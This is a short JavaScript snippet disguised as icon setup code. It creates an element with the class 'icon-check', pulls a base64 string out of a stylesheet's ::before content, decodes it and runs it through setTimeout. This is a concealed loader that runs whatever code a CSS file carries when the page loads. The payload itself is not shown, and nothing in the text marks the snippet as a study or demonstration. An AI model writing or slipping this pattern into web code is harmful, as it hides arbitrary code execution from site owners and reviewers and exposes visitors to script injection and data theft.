var el=document.createElement('i');el.className='icon-check';document.body.appendChild(el);
var code=getComputedStyle(el,'::before').content.replace(/"/g,'');setTimeout(atob(code),1);
